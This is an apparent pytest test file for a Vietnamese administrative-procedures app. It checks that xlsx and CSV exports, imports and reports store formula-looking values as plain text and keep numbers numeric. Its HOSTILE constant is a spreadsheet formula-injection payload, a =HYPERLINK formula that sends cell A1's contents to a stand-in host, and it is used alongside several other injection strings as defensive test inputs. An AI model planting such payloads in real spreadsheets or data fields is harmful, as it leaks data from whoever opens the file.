"""Every export writes text as text: a value starting with =, +, -, @ or a control character never becomes a live
formula (.xlsx: a string cell; .csv: a leading apostrophe), and numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from cchc.procedures import io as catalogue_io
from cchc.procedures.models import Procedure

HOSTILE = '=HYPERLINK("http://vi-du.invalid/?d="&A1,"Bấm để xem")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x01=1"]


def cells_of(data: bytes) -> list[openpyxl.cell.Cell]:
    """Every non-empty cell of an .xlsx, opened as Excel would (not read-only: formulas are kept as formulas)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def no_formula(data: bytes) -> None:
    formulas = [(cell.coordinate, cell.value) for cell in cells_of(data) if cell.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS])
def test_the_one_rule(text):
    from cchc.tablefiles import spreadsheet_value

    assert spreadsheet_value(text, "csv") == "'" + text
    book = openpyxl.Workbook()
    book.active.append([spreadsheet_value(text, "xlsx")])
    buffer = io.BytesIO()
    book.save(buffer)
    (cell,) = cells_of(buffer.getvalue())
    assert cell.data_type == "s" and str(cell.value) == text.replace("\x01", "")


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-3.5"), 0, dt.date(2024, 2, 5), "-5", "+3,5", "-", "An"])
def test_numbers_and_plain_text_are_left_alone(value):
    from cchc.tablefiles import spreadsheet_value

    assert spreadsheet_value(value, "xlsx") == value
    if value != "-":
        assert spreadsheet_value(value, "csv") == value
    assert spreadsheet_value("-", "csv") == "'-"  # a lone dash is not a number: text, marked


@pytest.fixture
def hostile_procedure(agency, field):
    return Procedure.objects.create(
        agency=agency,
        code="1.004444",
        name=HOSTILE,
        field=field,
        processing_time=Decimal("10"),
        fees="@SUM(1+1)",
        publishing_decision="-1+1",
        effective_from=dt.date(2020, 1, 1),
    )


def test_the_catalogue_export_writes_no_formula(hostile_procedure):
    data = catalogue_io.export_catalogue(Procedure.objects.all(), "xlsx", title="=1+1")
    no_formula(data)
    values = [cell.value for cell in cells_of(data)]
    assert HOSTILE in [str(v) for v in values] and "=1+1" in [str(v) for v in values]
    assert 10 in values  # the processing time stays a number

    rows = list(csv.reader(io.StringIO(catalogue_io.export_catalogue(Procedure.objects.all(), "csv").decode())))
    assert "'" + HOSTILE in rows[1] and "'@SUM(1+1)" in rows[1] and "'-1+1" in rows[1]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_formula_looking_name_survives_export_then_import(hostile_procedure, agency, other_agency, fmt):
    data = catalogue_io.export_catalogue(Procedure.objects.filter(agency=agency), fmt)
    result = catalogue_io.import_catalogue(data, other_agency, filename=f"danh-muc.{fmt}")
    assert result.errors == []
    copy = Procedure.objects.get(agency=other_agency)
    assert (copy.name, copy.fees, copy.publishing_decision) == (HOSTILE, "@SUM(1+1)", "-1+1")
    again = catalogue_io.import_catalogue(data, agency, filename=f"danh-muc.{fmt}")
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)


def test_the_export_page_writes_no_formula(client, officer, hostile_procedure):
    from django.urls import reverse

    client.force_login(officer)
    response = client.get(reverse("procedures:export", args=["xlsx"]))
    assert response.status_code == 200
    no_formula(response.content)
    text = client.get(reverse("procedures:export", args=["csv"])).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text


def test_report_tables_write_no_formula():
    from cchc.reports.rendering import Table
    from cchc.reports.rendering.xlsx import table_to_xlsx

    table = Table(title="=TITLE()", columns=["Cơ quan", "Số"], rows=[[HOSTILE, -5], ["@x", 3], ["+1", "-"]])
    data = table_to_xlsx([table])
    no_formula(data)
    by_text = {str(cell.value): cell for cell in cells_of(data)}
    assert by_text[HOSTILE].data_type == "s" and by_text["=TITLE()"].data_type == "s"
    assert by_text["-5"].value == -5 and by_text["-5"].data_type == "n"


def test_the_roll_up_export_writes_no_formula(province, other_agency, make_user):
    from cchc.agencies.models import Agency
    from cchc.aggregation.rollup import export_xlsx, rollup_table
    from cchc.statistics.periods import parse_period

    make_user("tonghop", other_agency, "aggregator")
    Agency.objects.create(province=province, code="X", name=HOSTILE)
    data = export_xlsx(rollup_table(other_agency, parse_period("2023-Q1")))
    no_formula(data)
    assert HOSTILE in [str(cell.value) for cell in cells_of(data)]


def test_the_dossier_errors_file_marks_formulas_and_reads_back(tmp_path, agency, procedure):
    from cchc.dossiers.importer import import_dossiers, write_errors_csv

    path = tmp_path / "a.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Mã hồ sơ", "Mã TTHC", "Chủ hồ sơ", "Ngày tiếp nhận"])
        writer.writerow(["HS-1", "1.004444", HOSTILE, "không phải ngày"])
    result = import_dossiers(path, agency=agency)
    errors = tmp_path / "loi.csv"
    write_errors_csv(result, errors)
    written = list(csv.reader(io.StringIO(errors.read_text(encoding="utf-8-sig"))))
    assert written[1][2] == "'" + HOSTILE
    again = import_dossiers(errors, agency=agency)
    assert [error.values[2] for error in again.errors] == [HOSTILE]
